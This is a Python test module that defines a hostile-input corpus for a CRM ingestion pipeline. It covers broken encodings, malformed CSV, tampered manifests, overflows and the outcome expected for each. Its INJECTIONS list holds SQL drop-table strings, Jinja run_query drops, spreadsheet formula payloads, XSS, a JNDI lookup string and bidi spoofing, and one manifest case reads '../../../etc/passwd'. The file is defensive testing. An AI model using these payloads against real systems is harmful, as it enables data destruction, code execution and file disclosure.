"""The hostile input corpus: one row per case, each with the outcome the landing contract promises.

A case writes one export folder (a valid customers.csv and orders.csv first, then its hostile file) and
names its outcome: `Fails` (the date fails with an error naming the file, nothing of the date is kept) or
`Lands` (the file loads; listed lines go to quarantine with their reasons, the rest to raw). The table is
documented in docs/hostile_input.md; test_ingest_hostile.py runs it.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from crm_scoring import contract

CUSTOMERS_HEADER = ["customer_id", "registered_at", "status", "country", "email", "updated_at"]
CUSTOMERS = [
    ["c1", "2025-01-02T10:00:00Z", "active", "DE", "a@example.com", "2026-01-05T08:00:00"],
    ["c2", "2025-03-04 11:30:00+02:00", "closed", "", "", ""],
]
ORDERS_HEADER = ["order_id", "customer_id", "order_ts", "status", "net_amount", "channel"]
ORDER = ["o1", "c1", "2026-01-05T09:00:00Z", "completed", "19.90", "online"]
TICKETS_HEADER = ["ticket_id", "customer_id", "created_at", "ticket_type", "status", "text"]
TICKET = ["t1", "c1", "2026-01-05T10:00:00Z", "complaint", "open", "late again"]

# Strings that would do harm if any layer interpreted them instead of storing them: SQL, PostgreSQL
# COPY's text-format markers, Jinja (dbt), spreadsheet formulas, HTML, format strings, bidi controls.
INJECTIONS = [
    "'; drop table raw.customers; --",
    "Robert'); DROP TABLE ops.load_audit;--",
    "1' OR '1'='1",
    "$$; drop schema lists cascade; $$",
    "{{ run_query('drop schema lists cascade') }}",
    "{% do run_query('drop table ops.quarantine') %}",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "\\.",
    "\\N",
    "%s %(x)s {0} ${jndi:ldap://x/a}",
    "\u202etxt.exe\u200b",
]

TS = "2026-01-05T10:00:00Z"
VALID_BY_TYPE = {
    "timestamp": TS,
    "date": "2026-01-05",
    "decimal": "1.00",
    "integer": "1",
    "boolean": "true",
}
PATTERN_VALUES = {"country": "DE", "currency": "EUR", "birth_month_day": "01-31"}


def free_text(col: contract.Column) -> bool:
    """A text column with no value set and no pattern: anything is a legal value."""
    return col.type == "text" and not col.allowed and not col.pattern


def valid_value(col: contract.Column) -> str:
    if col.allowed:
        return col.allowed[0]
    if col.pattern:
        return PATTERN_VALUES[col.name]
    return VALID_BY_TYPE.get(col.type, "x")


# --- outcomes ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Fails:
    """The date fails: IngestError naming `<date>/<file>` and matching `message`; nothing of the date kept."""

    file: str
    message: str


@dataclass(frozen=True)
class Lands:
    """`file` loads into `table`: (read, loaded, quarantined) and, per quarantined line, a reason regex."""

    table: str
    file: str
    counts: tuple[int, int, int]
    reasons: dict[int, str] = field(default_factory=dict)
    raw: Callable[[Callable[[str], list[tuple]]], None] | None = None  # extra checks on raw.<table>


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], None]  # writes the hostile file(s) into the export folder
    outcome: Fails | Lands
    why: str  # the contract's promise, for the docs


# --- builders ---------------------------------------------------------------------------------------


def csv_bytes(header: list[str], rows: list[list[str]], terminator: str = "\n") -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator=terminator)
    writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue().encode("utf-8")


def write(name: str, content: bytes) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        (folder / name).write_bytes(content)

    return build


def write_gz(name: str, content: bytes) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        (folder / name).write_bytes(gzip.compress(content, compresslevel=1, mtime=0))

    return build


def baseline(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "customers.csv").write_bytes(csv_bytes(CUSTOMERS_HEADER, CUSTOMERS))
    (folder / "orders.csv").write_bytes(csv_bytes(ORDERS_HEADER, [ORDER]))


def orders(*rows: list[str], header: list[str] = ORDERS_HEADER) -> Callable[[Path], None]:
    return write("orders.csv", csv_bytes(header, list(rows)))


def order(**changes: str) -> list[str]:
    row = dict(zip(ORDERS_HEADER, ORDER, strict=True))
    row.update(changes)
    return [row[h] for h in ORDERS_HEADER]


def both(*builds: Callable[[Path], None]) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        for b in builds:
            b(folder)

    return build


def manifest(tamper: Callable[[dict], None]) -> Callable[[Path], None]:
    """A truthful manifest of the baseline files, then `tamper` edits the document."""

    def build(folder: Path) -> None:
        files = {}
        for name, rows in (("customers.csv", len(CUSTOMERS)), ("orders.csv", 1)):
            digest = hashlib.sha256((folder / name).read_bytes()).hexdigest()
            files[name] = {"rows": rows, "sha256": digest}
        doc = {"export_date": folder.name, "files": files}
        tamper(doc)
        (folder / contract.MANIFEST).write_text(json.dumps(doc))

    return build


def parquet(name: str, columns: dict[str, pa.Array]) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        pq.write_table(pa.table(columns), folder / name)

    return build


def parquet_orders(**override: pa.Array) -> Callable[[Path], None]:
    cols = {
        "order_id": pa.array(["o1", "o2"]),
        "customer_id": pa.array(["c1", "c2"]),
        "order_ts": pa.array(["2026-01-05T09:00:00Z", "2026-01-05T10:00:00Z"]),
        "status": pa.array(["completed", "completed"]),
        "net_amount": pa.array([Decimal("1.50"), Decimal("2.00")], pa.decimal128(10, 2)),
    }
    cols.update(override)
    return both(_unlink("orders.csv"), parquet("orders.parquet", cols))


CONTACTS_HEADER = ["contact_id", "customer_id", "contact_ts", "channel", "purpose", "list_run_date"]
_CONTACT_IDS = "select contact_id from raw.contacts where _export_date = %s"


def future_list_contacts(folder: Path) -> None:
    """contacts.list_run_date: the export date itself and earlier load; the next day and 2100 do not."""
    from datetime import date, timedelta

    day = date.fromisoformat(folder.name)
    rows = [
        ["k1", "c1", "2026-01-05T10:00:00Z", "email", "retention", day.isoformat()],
        ["k2", "c1", "2026-01-05T10:00:00Z", "email", "retention", "2026-01-04"],
        ["k3", "c2", "2026-01-05T10:00:00Z", "email", "retention", (day + timedelta(days=1)).isoformat()],
        ["k4", "c2", "2026-01-05T10:00:00Z", "email", "retention", "2100-01-01"],
    ]
    (folder / "contacts.csv").write_bytes(csv_bytes(CONTACTS_HEADER, rows))


def _unlink(name: str) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        (folder / name).unlink()

    return build


def truncated_gzip(folder: Path) -> None:
    data = gzip.compress(csv_bytes(ORDERS_HEADER, [order(order_id=f"o{i}") for i in range(2000)]), mtime=0)
    (folder / "orders.csv").unlink()
    (folder / "orders.csv.gz").write_bytes(data[: len(data) // 2])


def injection_rows(table: contract.Table) -> tuple[list[str], list[list[str]]]:
    """One row per payload, with the payload in every free-text column and valid values elsewhere."""
    header = table.column_names
    rows = []
    for payload in INJECTIONS:
        rows.append([payload if free_text(c) else valid_value(c) for c in table.columns])
    return header, rows


def injection_case(table: contract.Table) -> Case:
    header, rows = injection_rows(table)
    texts = [c.name for c in table.columns if free_text(c)]
    file = f"{table.name}.csv"

    def check(q: Callable[[str], list[tuple]]) -> None:
        got = q(f"select {', '.join(texts)} from raw.{table.name} where _export_date = %s order by _line_no")
        assert got == [tuple(p for _ in texts) for p in INJECTIONS], f"{table.name}: payloads not verbatim"

    return Case(
        f"injection in every text column of {table.name}",
        write(file, csv_bytes(header, rows)),
        Lands(table.name, file, (len(rows), len(rows), 0), raw=check),
        f"free-text columns ({', '.join(texts)}) take any string: stored byte for byte, never run",
    )


MILLION = 1_000_000
INTERACTIONS_HEADER = ["event_id", "customer_id", "event_ts", "event_type"]


def million_bad_interactions(folder: Path) -> None:
    """1,000,000 rows, every one with an event_type outside the contract's set, streamed into a gzip."""
    with (
        open(folder / "interactions.csv.gz", "wb") as raw,
        gzip.GzipFile(fileobj=raw, mode="wb", compresslevel=1, mtime=0) as fh,
    ):
        fh.write((",".join(INTERACTIONS_HEADER) + "\n").encode())
        step = 50_000
        for start in range(0, MILLION, step):
            chunk = "".join(f"e{i},c1,2026-01-05T10:00:00Z,teleport\n" for i in range(start, start + step))
            fh.write(chunk.encode())


# --- the corpus -------------------------------------------------------------------------------------

ORD = "orders.csv"
UTF8_ERR = r"line {n}: not valid UTF-8"


def _cases() -> list[Case]:
    header = ",".join(ORDERS_HEADER)
    line = ",".join(ORDER)
    big = "x" * (10 * 1024 * 1024)
    return [
        # encodings and bytes
        Case(
            "UTF-8 with BOM",
            write(ORD, b"\xef\xbb\xbf" + csv_bytes(ORDERS_HEADER, [ORDER])),
            Lands("orders", ORD, (1, 1, 0)),
            "UTF-8 is the contract; a leading BOM is not part of the first column name",
        ),
        Case(
            "Latin-1 text",
            write(ORD, (header + "\n" + line.replace("o1", "o\xe9") + "\n").encode("latin-1")),
            Fails(ORD, UTF8_ERR.format(n=2) + r" \(byte 0xe9 at column 2\)"),
            "wrong encoding: the file cannot be parsed; the date fails naming file and line",
        ),
        Case(
            "UTF-16 with BOM",
            write(ORD, (header + "\n" + line + "\n").encode("utf-16")),
            Fails(ORD, r"line 1: starts with a UTF-16 byte-order mark; the contract requires UTF-8"),
            "wrong encoding: fails, and says which",
        ),
        Case(
            "UTF-16 without BOM",
            write(ORD, (header + "\n" + line + "\n").encode("utf-16-le")),
            Fails(ORD, r"line 1: the header contains a NUL byte"),
            "wrong encoding: the NUL bytes of the header give it away",
        ),
        Case(
            "invalid UTF-8 sequence (overlong encoding)",
            write(ORD, (header + "\n" + line + "\n").encode() + b"o2,c\xc0\xaf,x,completed,1,\n"),
            Fails(ORD, UTF8_ERR.format(n=3)),
            "not UTF-8: fails naming the line",
        ),
        Case(
            "CRLF line ends (and CRLF inside a quoted text)",
            write("tickets.csv", csv_bytes(TICKETS_HEADER, [TICKET[:5] + ["line one\r\nline two"]], "\r\n")),
            Lands(
                "tickets",
                "tickets.csv",
                (1, 1, 0),
                raw=lambda q: _eq(
                    q("select text from raw.tickets where _export_date = %s"), [("line one\r\nline two",)]
                ),
            ),
            "RFC 4180 records end in CRLF; a quoted CRLF is part of the text",
        ),
        Case(
            "CR-only line ends (classic Mac)",
            write(ORD, (header + "\r" + line + "\r").encode()),
            Fails(ORD, r"line 1: malformed CSV"),
            "not RFC 4180: fails naming the file",
        ),
        Case(
            "NUL byte inside a field",
            write(ORD, (header + "\n" + line + "\n" + line.replace("o1", "o\x002") + "\n").encode()),
            Lands("orders", ORD, (2, 1, 1), {3: r"^order_id: contains a NUL byte \(shown as U\+FFFD"}),
            "PostgreSQL text cannot hold NUL: the row is quarantined (file, line, reason), the rest loads",
        ),
        Case(
            "10 MB field",
            write("tickets.csv", csv_bytes(TICKETS_HEADER, [TICKET, ["t2", *TICKET[1:5], big]])),
            Lands(
                "tickets",
                "tickets.csv",
                (2, 1, 1),
                {3: r"^text: value of 10485760 characters exceeds the field limit"},
            ),
            "a field over CRM_INGEST_MAX_FIELD_CHARS quarantines its row (raw_record keeps a prefix)",
        ),
        Case(
            "quotes across lines (RFC 4180)",
            write(
                "tickets.csv",
                csv_bytes(
                    TICKETS_HEADER, [TICKET[:5] + ['a,\n"b"\n\nc'], ["t2", *TICKET[1:4], "shipped", "x"]]
                ),
            ),
            Lands("tickets", "tickets.csv", (2, 1, 1), {6: r"^status: 'shipped' not in"}),
            "a quoted field may span lines; the next record's line is its physical line (6)",
        ),
        Case(
            "unterminated quote across lines",
            write(ORD, (header + "\n" + line + '\no2,c1,"2026-01-05,completed,1,\no3,c1\n').encode()),
            Fails(ORD, r"line 3: malformed CSV"),
            "broken quoting: fails naming the line the record starts on",
        ),
        Case(
            "stray quote in an unquoted field",
            write(ORD, (header + '\no1,c1,"2026"x,completed,1,\n').encode()),
            Fails(ORD, r"line 2: malformed CSV"),
            "broken quoting: fails naming the line",
        ),
        Case(
            "ragged row",
            write(ORD, (header + "\n" + line + "\n" + line + ",extra\n").encode()),
            Fails(ORD, r"line 3: expected 6 fields as in the header, found 7"),
            "a record with more fields than the header cannot be mapped: fails naming the line",
        ),
        # compression and Parquet
        Case(
            "truncated gzip",
            truncated_gzip,
            Fails("orders.csv.gz", r"cannot read the file"),
            "unreadable file: fails naming it; nothing of the date is loaded",
        ),
        Case(
            "not gzip at all (.csv.gz holding plain text)",
            both(_unlink(ORD), write("orders.csv.gz", csv_bytes(ORDERS_HEADER, [ORDER]))),
            Fails("orders.csv.gz", r"cannot read the file"),
            "unreadable file: fails naming it",
        ),
        Case(
            "Parquet: timestamp column arrives as int64 epoch seconds",
            parquet_orders(order_ts=pa.array([1767603600, 1767607200], pa.int64())),
            Lands(
                "orders",
                "orders.parquet",
                (2, 0, 2),
                {1: r"^order_ts: '1767603600' is not a valid ISO 8601 timestamp", 2: r"^order_ts: "},
            ),
            "a changed column type is a wrong type per value: every row quarantined with the reason",
        ),
        Case(
            "Parquet: decimal column arrives as float64",
            parquet_orders(net_amount=pa.array([1.5, 0.1 + 0.2], pa.float64())),
            Lands(
                "orders",
                "orders.parquet",
                (2, 1, 1),
                {2: r"^net_amount: '0\.30000000000000004' is not a valid decimal"},
            ),
            "values that are exact decimals load; binary-float noise is quarantined, never rounded",
        ),
        Case(
            "Parquet: column of a nested type",
            parquet_orders(net_amount=pa.array([[1], [2]], pa.list_(pa.int64()))),
            Fails("orders.parquet", r"column net_amount of type list<\w+: int64> cannot be read as text"),
            "a type with no text form: fails naming the file and column",
        ),
        Case(
            "Parquet: garbage bytes",
            both(_unlink(ORD), write("orders.parquet", b"PAR1 this is not parquet")),
            Fails("orders.parquet", r"not a readable Parquet file"),
            "unreadable file: fails naming it",
        ),
        # manifest
        Case(
            "manifest whose row count lies",
            manifest(lambda d: d["files"]["orders.csv"].update(rows=2)),
            Fails(ORD, r"row count mismatch with _manifest\.json \(manifest 2, file 1\)"),
            "the manifest is verified before anything is loaded",
        ),
        Case(
            "manifest whose hash lies",
            manifest(lambda d: d["files"]["customers.csv"].update(sha256="0" * 64)),
            Fails("customers.csv", r"sha256 mismatch with _manifest\.json"),
            "the manifest is verified before anything is loaded",
        ),
        Case(
            "manifest entry escaping the folder (../)",
            manifest(lambda d: d["files"].update({"../../../etc/passwd": {"rows": 1}})),
            Fails(
                contract.MANIFEST,
                r"entry '\.\./\.\./\.\./etc/passwd' is not the name of a file in the folder",
            ),
            "the loader reads nothing outside the export folder",
        ),
        Case(
            "manifest for another date",
            manifest(lambda d: d.update(export_date="1999-01-01")),
            Fails(contract.MANIFEST, r"export_date '1999-01-01' does not match the folder"),
            "a manifest of another export is a lie about this one",
        ),
        Case(
            "manifest that is not JSON",
            write(contract.MANIFEST, b"{'files': "),
            Fails(contract.MANIFEST, r"not valid JSON"),
            "an unreadable manifest fails the date",
        ),
        # headers
        Case(
            "empty file with only a header",
            write("tickets.csv", csv_bytes(TICKETS_HEADER, [])),
            Lands("tickets", "tickets.csv", (0, 0, 0)),
            "no rows of that kind today: loaded with 0 rows, audited",
        ),
        Case(
            "completely empty required file",
            write(ORD, b""),
            Fails(ORD, r"empty file, no header row"),
            "no header: the file cannot be parsed",
        ),
        Case(
            "header only in upper case",
            orders(ORDER, header=[h.upper() for h in ORDERS_HEADER]),
            Lands("orders", ORD, (1, 1, 0)),
            "column names match case-insensitively",
        ),
        Case(
            "columns in another order (plus padding blanks in names)",
            orders(list(reversed(ORDER)), header=[f" {h} " for h in reversed(ORDERS_HEADER)]),
            Lands(
                "orders",
                ORD,
                (1, 1, 0),
                raw=lambda q: _eq(
                    q("select order_id, net_amount::text, channel from raw.orders where _export_date = %s"),
                    [("o1", "19.90", "online")],
                ),
            ),
            "columns are matched by name, not position",
        ),
        Case(
            "duplicate columns",
            orders(ORDER + ["x"], header=ORDERS_HEADER + ["status"]),
            Fails(ORD, r"line 1: column 'status' appears twice in the header"),
            "which value counts would be a guess: fails",
        ),
        Case(
            "duplicate columns differing only in case",
            orders(ORDER + ["x"], header=ORDERS_HEADER + ["Net_Amount"]),
            Fails(ORD, r"line 1: column 'Net_Amount' appears twice in the header"),
            "names match case-insensitively, so this is a duplicate too",
        ),
        Case(
            "missing required column",
            orders(ORDER[:4], header=ORDERS_HEADER[:4]),
            Fails(ORD, r"missing required column\(s\) net_amount"),
            "a missing required column fails the date naming file and column",
        ),
        Case(
            "header row missing (data in line 1)",
            write(ORD, (line + "\n" + line + "\n").encode()),
            Fails(ORD, r"line 1: no contract column in the first row"),
            "no header: fails",
        ),
        Case(
            "header column without a name",
            orders(ORDER + ["x"], header=ORDERS_HEADER + [""]),
            Fails(ORD, r"line 1: header column 7 has no name"),
            "an unnamed column cannot be kept in _extra: fails",
        ),
        Case(
            "2,000 columns",
            orders(ORDER + ["x"] * 1994, header=ORDERS_HEADER + [f"x{i}" for i in range(1994)]),
            Fails(ORD, r"line 1: the header has 2000 columns; at most \d+ can be loaded"),
            "beyond PostgreSQL's column limit: fails naming the file (never a raw database error)",
        ),
        Case(
            "injection in an extra column's name",
            orders(ORDER + ["v"], header=ORDERS_HEADER + ["x'); drop table raw.orders; --"]),
            Lands(
                "orders",
                ORD,
                (1, 1, 0),
                raw=lambda q: _eq(
                    q("select _extra from raw.orders where _export_date = %s"),
                    [({"x'); drop table raw.orders; --": "v"},)],
                ),
            ),
            "unknown extra columns are kept in _extra under their own name, as data",
        ),
        # values
        Case(
            "dates in 1900 and 2100",
            write(
                "customers.csv",
                csv_bytes(
                    CUSTOMERS_HEADER,
                    [
                        ["c1", "1900-01-01T00:00:00Z", "active", "", "", ""],
                        ["c2", "2100-01-01T00:00:00Z", "active", "", "", ""],
                        ["c3", "1900-02-29", "active", "", "", ""],
                        ["c4", "2025-01-01", "active", "", "", "2100-12-31"],
                    ],
                ),
            ),
            Lands(
                "customers",
                "customers.csv",
                (4, 1, 3),
                {
                    3: r"^registered_at: 2100-01-01 00:00:00\+00 is after the end of the export date",
                    4: r"^registered_at: '1900-02-29' is not a valid ISO 8601 timestamp",
                    5: r"^updated_at: 2100-12-31 00:00:00\+00 is after the end",
                },
            ),
            "a past date is a date; one after the export date is quarantined; 1900 was no leap year",
        ),
        Case(
            "timestamps PostgreSQL would accept but the contract does not",
            orders(
                order(order_id="o1", order_ts="now"),
                order(order_id="o2", order_ts="infinity"),
                order(order_id="o3", order_ts="0044-03-15 BC"),
                order(order_id="o4", order_ts="11/26/2025"),
                order(order_id="o5", order_ts="10000-01-01"),
                order(order_id="o6", order_ts="2026-01-05T25:00:00Z"),
            ),
            Lands(
                "orders",
                ORD,
                (6, 0, 6),
                {n: r"^order_ts: '.*' is not a valid ISO 8601 timestamp$" for n in range(2, 8)},
            ),
            "ISO 8601 only: each is quarantined with the value quoted",
        ),
        Case(
            "numeric overflow",
            orders(
                order(order_id="o1", net_amount="12345678901234567.00"),
                order(order_id="o2", net_amount="1e20"),
                order(order_id="o3", net_amount="9" * 200),
                order(order_id="o4", net_amount="NaN"),
                order(order_id="o5", net_amount="Infinity"),
                order(order_id="o6", net_amount="9999999999999999.99"),
            ),
            Lands(
                "orders",
                ORD,
                (6, 1, 5),
                {n: r"^net_amount: '.*' is not a valid decimal" for n in range(2, 7)},
            ),
            "numeric(18,2) holds 16 integer digits; anything larger or not a plain number is quarantined",
        ),
        Case(
            "integer overflow",
            write(
                "surveys.csv",
                csv_bytes(
                    ["survey_id", "customer_id", "survey_type", "trigger_type", "sent_at", "score"],
                    [
                        ["s1", "c1", "NPS", "periodic", TS, "9223372036854775808"],
                        ["s2", "c1", "NPS", "periodic", TS, "-9223372036854775809"],
                        ["s3", "c1", "NPS", "periodic", TS, "1_0"],
                        ["s4", "c1", "NPS", "periodic", TS, "10"],
                    ],
                ),
            ),
            Lands(
                "surveys",
                "surveys.csv",
                (4, 1, 3),
                {n: r"^score: '.*' is not a valid integer$" for n in (2, 3, 4)},
            ),
            "bigint range and plain digits only",
        ),
        Case(
            "whitespace-only and padded required values",
            orders(order(order_id="o1", customer_id="   "), order(order_id="o2", net_amount=" 1.00")),
            Lands(
                "orders",
                ORD,
                (2, 0, 2),
                {
                    2: r"^customer_id: missing required value$",
                    3: r"^net_amount: ' 1\.00' is not a valid decimal",
                },
            ),
            "a blank id is a missing value; numbers are never trimmed (never silently coerced)",
        ),
        Case(
            "booleans outside true/false/1/0",
            write(
                "tickets.csv",
                csv_bytes(TICKETS_HEADER + ["is_urgent"], [TICKET + ["TRUE"], ["t2", *TICKET[1:], "yes"]]),
            ),
            Lands("tickets", "tickets.csv", (2, 1, 1), {3: r"^is_urgent: 'yes' is not a valid boolean"}),
            "true/false/1/0 in any case; anything else quarantined",
        ),
        Case(
            "injection in pattern columns",
            write(
                "customers.csv",
                csv_bytes(
                    ["customer_id", "registered_at", "status", "country", "birth_month_day"],
                    [
                        ["c1", TS, "active", INJECTIONS[6], ""],
                        ["c2", TS, "active", "", INJECTIONS[10]],
                    ],
                ),
            ),
            Lands(
                "customers",
                "customers.csv",
                (2, 0, 2),
                {
                    2: r"^country: '=cmd\|'' /C calc''!A0' does not match \^\[A-Z\]\{2\}\$$",
                    3: r"^birth_month_day: '<script>alert\(document\.cookie\)</script>' does not match",
                },
            ),
            "a value that does not match its column's pattern is quarantined, quoted as a literal",
        ),
        Case(
            "the same table in two files (orders.csv and orders.csv.gz)",
            write_gz("orders.csv.gz", csv_bytes(ORDERS_HEADER, [ORDER])),
            Fails(
                ORD,
                r": orders arrives in more than one file \(orders\.csv, orders\.csv\.gz\); keep exactly one",
            ),
            "which file is the export would be a guess: the date fails naming both",
        ),
        Case(
            "a directory where a required file should be",
            both(_unlink(ORD), lambda folder: (folder / ORD).mkdir()),
            Fails(ORD, r"required file is missing"),
            "only a regular file counts; the required file is missing and the date fails",
        ),
        Case(
            "injection in value-set columns",
            orders(order(status=INJECTIONS[0]), order(order_id="o2", channel=INJECTIONS[4])),
            Lands(
                "orders",
                ORD,
                (2, 0, 2),
                {2: r"^status: '''; drop table raw\.customers; --' not in", 3: r"^channel: '\{\{ run_query"},
            ),
            "a value outside its set is quarantined; the reason quotes it as a literal",
        ),
        Case(
            "duplicate ids with hostile keys",
            orders(order(order_id="\\N"), order(order_id="\\N", customer_id="c2")),
            Lands(
                "orders",
                ORD,
                (2, 0, 2),
                {2: r"^order_id: duplicate of line 3$", 3: r"^order_id: duplicate of line 2$"},
            ),
            "a key twice in one file: both rows quarantined naming the other line; \\N is a value, not NULL",
        ),
        Case(
            "1,000,000 quarantined rows (streamed gzip)",
            million_bad_interactions,
            Lands("interactions", "interactions.csv.gz", (MILLION, 0, MILLION)),
            "bulk to the end: COPY in, one set-based insert into ops.quarantine, audit balanced",
        ),
        Case(
            "a contact made from a list of a future run date",
            future_list_contacts,
            Lands(
                "contacts",
                "contacts.csv",
                (4, 2, 2),
                {
                    4: r"^list_run_date: \d{4}-\d{2}-\d{2} is after the export date \d{4}-\d{2}-\d{2}$",
                    5: r"^list_run_date: 2100-01-01 is after the export date",
                },
                raw=lambda q: _eq(sorted(r[0] for r in q(_CONTACT_IDS)), ["k1", "k2"]),
            ),
            "a list cannot be worked before its run date: the contact is quarantined, the date named",
        ),
        *[injection_case(t) for t in contract.TABLES.values() if any(free_text(c) for c in t.columns)],
    ]


def _eq(got: object, want: object) -> None:
    assert got == want, f"{got!r} != {want!r}"


CASES = _cases()


def markdown_table(cases: list[Case] = CASES) -> str:
    """The corpus as the table in docs/hostile_input.md (print it with `python tests/hostile_cases.py`)."""

    def cell(text: str) -> str:
        return text.replace("|", "\\|")

    lines = ["| # | case | outcome | why (the contract's promise) |", "|---|---|---|---|"]
    for i, case in enumerate(cases, 1):
        outcome = case.outcome
        if isinstance(outcome, Fails):
            shown = outcome.message.replace(r"\d+", "N").replace(r"<\w+:", "<item:").replace("\\", "")
            text = f"**date fails**: `<date>/{outcome.file}: … {cell(shown)}`"
        else:
            read, loaded, quarantined = outcome.counts
            text = (
                f"**loads** `{outcome.file}`: read {read:,}, loaded {loaded:,}, quarantined {quarantined:,}"
            )
            if outcome.reasons:
                text += f" (line {', '.join(str(n) for n in sorted(outcome.reasons))})"
        lines.append(f"| {i} | {cell(case.name)} | {text} | {cell(case.why)} |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    print(markdown_table(), end="")
